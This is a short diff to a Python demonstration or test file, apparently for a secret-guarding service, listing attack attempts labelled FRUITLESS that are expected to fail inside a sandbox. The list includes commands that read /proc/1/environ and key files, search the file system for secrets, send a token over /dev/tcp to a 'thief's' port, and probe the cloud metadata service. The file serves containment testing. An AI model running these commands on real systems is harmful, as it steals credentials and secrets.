@@ -49,7 +49,7 @@ PRINTED: Final = (
 FRUITLESS: Final = (
     ("read /proc/1/environ", "cat /proc/1/environ || true"),
     ("read the Authority's database and key", "cat {trusted}/janee/state.db {trusted}/data/janee/keys/*"),
-    ("look for them in the whole file system", "find / -name state.db -o -name '*.key' -o -name '.janee*' 2>/dev/null | head"),
+    ("look for them in the whole file system", "find / -name state.db -o -name '*.anchor' 2>/dev/null"),
     ("send it to a port of the thief's", 'exec 3<>/dev/tcp/127.0.0.1/{trap} && echo "$DEMO_TOKEN" >&3'),
     ("ask the Authority itself from inside", "exec 3<>/dev/tcp/127.0.0.1/{authority} && echo connected"),
     ("ask the cloud's metadata service", "timeout 5 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80 && echo connected'"),
@@ -266,7 +266,7 @@ def _output(answer: Answer) -> str:
 
 def _short(text: str) -> str:
     """The end of a text, where the interesting part mostly is, on one line."""
-    line = " ".join(text.split())
+    line = " ".join(text.split()) or "(nothing)"
     redacted = line.find("[REDACTED]")
     if redacted > SHOWN // 2:
         line = "…" + line[redacted - SHOWN // 3 :]
